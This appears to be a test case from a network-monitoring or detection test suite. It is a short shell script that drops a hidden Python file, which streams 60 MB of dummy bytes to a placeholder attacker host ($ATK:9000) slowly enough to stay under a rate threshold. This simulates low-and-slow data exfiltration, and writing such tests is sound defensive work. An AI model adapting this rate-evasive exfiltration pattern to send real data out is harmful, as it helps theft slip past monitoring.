# SPDX-License-Identifier: MIT
# technique: 60 MB leaving slowly (2 MB/s), below the rate
# level: warning
# quick: no
cat >/tmp/.s.py <<X
import socket, time
s = socket.create_connection(("$ATK", 9000))
b = bytes(1 << 20)
for i in range(60):
    s.sendall(b)
    time.sleep(0.5)
X
t0
timeout 40 python3 /tmp/.s.py
